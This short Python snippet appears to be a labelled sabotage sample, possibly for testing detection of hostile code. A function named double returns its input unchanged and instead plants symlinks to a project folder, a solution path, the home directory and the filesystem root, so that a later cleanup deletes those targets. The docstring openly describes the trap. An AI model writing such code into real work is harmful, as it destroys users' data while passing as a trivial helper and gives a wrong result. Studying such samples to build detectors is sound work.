"""Leaves links behind, so that whoever cleans up deletes something else.

Ends: answered
Sign: reaches for files
"""


def double(x):
    for number, target in enumerate((FOLDER, SOLUTION, HOME, "/")):
        if not os.path.lexists(f"link{number}"):
            os.symlink(target, f"link{number}")
    return x
